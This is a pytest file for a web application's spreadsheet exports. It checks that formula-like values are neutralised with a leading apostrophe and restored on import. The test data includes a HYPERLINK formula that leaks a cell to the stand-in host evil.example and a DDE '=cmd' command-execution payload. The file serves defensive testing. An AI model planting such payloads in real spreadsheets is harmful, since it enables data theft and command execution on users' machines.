"""Excel formula injection (issue 15 item 4): every export writes text that Excel would read as
a formula (``=``, ``+``, ``-``, ``@``, tab, carriage return first) with a leading apostrophe,
in one place (emergency.core.sheets), and the imports take the apostrophe off again, so an export
re-imports unchanged."""
from __future__ import annotations

import io
import zipfile
from datetime import timedelta

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from emergency.core.extensions import db
from emergency.messaging.models import Contact, OrgKind
from emergency.organisations.models import Enterprise
from emergency.core.timeutil import local_today
from plans.drills.models import Occurrence

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
CMD = "=cmd|' /C calc'!A0"


def cells(content: bytes) -> list[list]:
    """Every cell of every sheet, after checking that none of them is a formula."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    book = load_workbook(io.BytesIO(content))
    rows = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            assert all(cell.data_type != "f" for cell in row)
            rows.append([cell.value for cell in row])
    return rows


def upload(client, url: str, content: bytes):
    return client.post(url, data={"file": (io.BytesIO(content), "again.xlsx")}, content_type="multipart/form-data")


@pytest.fixture
def officer(client, make_user, county):
    make_user("duty", "officer")
    client.post("/login", data={"username": "duty", "password": "Test-password-1"})
    client.post("/lang/en")
    return client


def test_register_export_neutralises_formulas_and_round_trips(officer, make_enterprise):
    make_enterprise(name="恶意企业", address=HYPERLINK, legal_representative="@SUM(1+1)",
                    principal_name="-2+3", safety_manager_name="\t=1+1")
    fields = ("name", "address", "legal_representative", "principal_name", "safety_manager_name", "principal_mobile")
    before = db.session.execute(sa.select(*[getattr(Enterprise, f) for f in fields])).all()
    content = officer.get("/enterprises/export.xlsx").data
    (row,) = [r for r in cells(content) if r[0] == "恶意企业"]
    assert "'" + HYPERLINK in row and "'@SUM(1+1)" in row and "'-2+3" in row and "'\t=1+1" in row
    assert "'+8613800138000" in row  # a mobile number in E.164 begins with + too: written as text
    db.session.execute(sa.delete(Contact))  # the register's contacts of principal and safety manager
    db.session.execute(sa.delete(Enterprise))
    db.session.commit()
    response = upload(officer, "/enterprises/import", content)
    assert response.status_code == 302, response.get_data(as_text=True)[-3000:]
    db.session.expire_all()
    after = db.session.execute(sa.select(*[getattr(Enterprise, f) for f in fields])).all()
    # The import strips surrounding blanks (a tab first is lost), nothing else.
    assert after == [tuple(v.strip() for v in before[0])]


def test_contact_export_neutralises_formulas_and_round_trips(officer, make_enterprise):
    own = make_enterprise(name="甲化工有限公司")
    db.session.execute(sa.delete(Contact))
    db.session.add_all([
        Contact(name=CMD, mobile="+8613700137001", org_kind=OrgKind.enterprise, enterprise_id=own.id,
                roles_text=",staff,", note="+1 请回电"),
        Contact(name="'=已有撇号", mobile="+8613700137002", org_kind=OrgKind.enterprise,
                                    enterprise_id=own.id, roles_text=",staff,", note="'普通备注"),
    ])
    db.session.commit()

    def snapshot():
        db.session.expire_all()
        return sorted(db.session.execute(sa.select(Contact.name, Contact.mobile, Contact.note, Contact.roles_text,
                                                   Contact.enterprise_id)).all())

    before = snapshot()
    content = officer.get("/messaging/contacts/export.xlsx").data
    rows = cells(content)
    assert ["'" + CMD, "'+8613700137001"] == rows[1][:2] or ["'" + CMD, "'+8613700137001"] == rows[2][:2]
    assert any(r[0] == "''=已有撇号" and r[-1] == "'普通备注" for r in rows)
    db.session.execute(sa.delete(Contact))
    db.session.commit()
    response = upload(officer, "/messaging/contacts/import", content)
    assert response.status_code == 302, response.get_data(as_text=True)[-3000:]
    assert snapshot() == before


def test_drill_dashboard_exports_neutralise_formulas(officer, make_enterprise):
    evil = make_enterprise(name=HYPERLINK)
    today = local_today()
    db.session.add(Occurrence(key="o-drill_yearly-evil", enterprise_id=evil.id, obligation="drill_yearly",
                              due_on=today - timedelta(days=3), window_start=today - timedelta(days=40),
                              window_end=today - timedelta(days=3)))
    db.session.commit()
    for url in ("/dashboard/drills/overdue.xlsx", "/dashboard/drills/heatmap.xlsx", "/dashboard/drills/rates.xlsx"):
        response = officer.get(url)
        assert response.status_code == 200, url
        found = cells(response.data)
        if url != "/dashboard/drills/rates.xlsx":
            assert any("'" + HYPERLINK in row for row in found), url


def test_templates_are_neutralised_too(officer):
    for url in ("/enterprises/import/template.xlsx", "/messaging/contacts/import/template.xlsx"):
        cells(officer.get(url).data)
